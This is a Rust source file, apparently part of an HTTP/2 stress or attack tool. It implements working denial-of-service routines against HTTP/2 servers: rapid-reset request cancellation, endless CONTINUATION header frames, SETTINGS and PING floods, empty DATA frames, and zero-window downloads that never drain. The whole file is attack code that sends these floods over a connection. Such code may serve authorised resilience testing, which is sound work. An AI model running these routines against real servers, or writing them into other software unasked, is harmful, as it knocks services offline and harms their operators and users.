//! Hostile HTTP/2: requests that are taken back, heads that do not end, frames that ask for nothing, and windows that
//! stay shut.

use std::{io, time::Duration};

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::{
    attack::Attack,
    ending::{Ending, How},
    frames::{self, ACK, CONTINUATION, DATA, END_HEADERS, Frames, HEADERS, Heard, INITIAL_WINDOW_SIZE},
};
use crate::websocket::Duplex;

/// Frames that go out with one write.
const BATCH: u32 = 100;
/// Between requests of the patient sort of rapid reset: each is seen by itself.
const APART: Duration = Duration::from_millis(1);
/// Downloads on one connection.
const DOWNLOADS: u32 = 100;

/// Requests and their cancellation: every other client sends a hundred at once, the others one after the other.
pub(super) async fn rapid_reset(attack: &Attack, mut stream: impl Duplex, n: usize) -> Ending {
    let block = frames::request("GET", &attack.host, &attack.path);
    let (count, pause) = if n.is_multiple_of(2) { (BATCH, None) } else { (1, Some(APART)) };
    let batch = |first: u32| {
        let streams = (0..count).map(|n| first + 2 * n);
        streams.fold(Frames::new(), |frames, stream| frames.get(stream, &block).cancel(stream))
    };
    let mut next = 1;
    let mut heard = Heard::default();
    let mut sent = stream.write_all(Frames::preface(&[]).bytes()).await;
    while sent.is_ok() {
        tokio::select! {
            biased;
            read = listen(&mut stream, &mut heard) => if read.is_err() { break },
            written = deliver(batch(next), pause) => {
                sent = stream.write_all(written.bytes()).await;
                next += 2 * count;
            }
        }
    }
    closed(&heard)
}

async fn deliver(frames: Frames, pause: Option<Duration>) -> Frames {
    match pause {
        Some(pause) => tokio::time::sleep(pause).await,
        // Between two batches, whatever has come is read.
        None => tokio::task::yield_now().await,
    }
    frames
}

/// One head in ever more frames.
pub(super) async fn continuation(attack: &Attack, stream: impl Duplex) -> Ending {
    let block = frames::request("GET", &attack.host, &attack.path);
    let mut more = Vec::new();
    frames::field(&mut more, "x-more", "y");
    let begin = Frames::preface(&[]).frame((HEADERS, 0), 1, &block);
    pour(stream, begin, Frames::new().frame((CONTINUATION, 0), 1, &more)).await
}

/// The same setting again and again.
pub(super) async fn settings(stream: impl Duplex) -> Ending {
    pour(stream, Frames::preface(&[]), Frames::new().settings(&[(INITIAL_WINDOW_SIZE, 65_535)])).await
}

/// Ever more PINGs.
pub(super) async fn ping(stream: impl Duplex) -> Ending {
    pour(stream, Frames::preface(&[]), Frames::new().ping(0)).await
}

/// An upload of nothing.
pub(super) async fn empty_frames(attack: &Attack, stream: impl Duplex) -> Ending {
    let block = frames::request("POST", &attack.host, &attack.path);
    let begin = Frames::preface(&[]).frame((HEADERS, END_HEADERS), 1, &block);
    pour(stream, begin, Frames::new().frame((DATA, 0), 1, b"")).await
}

/// Writes and writes, and never reads: what is answered stays where it is.
async fn pour(mut stream: impl Duplex, begin: Frames, again: Frames) -> Ending {
    let batch = again.repeat(BATCH as usize);
    let mut sent = stream.write_all(begin.bytes()).await;
    while sent.is_ok() {
        sent = stream.write_all(batch.bytes()).await;
        tokio::task::yield_now().await;
    }
    How::Closed.into()
}

/// A hundred downloads for which no room is ever made, over a connection that is alive otherwise.
pub(super) async fn zero_window(attack: &Attack, mut stream: impl Duplex) -> Ending {
    let block = frames::request("GET", &attack.host, &attack.path);
    let streams = (0..DOWNLOADS).map(|n| 1 + 2 * n);
    let begin = Frames::preface(&[(INITIAL_WINDOW_SIZE, 0)]);
    let begin = streams.fold(begin, |frames, stream| frames.get(stream, &block));
    let mut heard = Heard::default();
    let mut sent = stream.write_all(begin.bytes()).await;
    while sent.is_ok() {
        // What was reset is as good as ended; the connection goes on for as long as it is not idle.
        if listen(&mut stream, &mut heard).await.is_err() || heard.resets >= u64::from(DOWNLOADS) {
            break;
        }
        let pongs = std::mem::take(&mut heard.pings);
        sent = stream.write_all(Frames::new().ping(ACK).repeat(pongs).bytes()).await;
    }
    closed(&heard)
}

/// Fails at the end of the connection.
async fn listen(stream: &mut impl Duplex, heard: &mut Heard) -> io::Result<()> {
    let mut bytes = [0; 4096];
    let read = stream.read(&mut bytes).await?;
    if read == 0 {
        return Err(io::ErrorKind::UnexpectedEof.into());
    }
    heard.hear(&bytes[..read]);
    Ok(())
}

fn closed(heard: &Heard) -> Ending {
    Ending { how: How::Closed, status: None, resets: heard.resets }
}
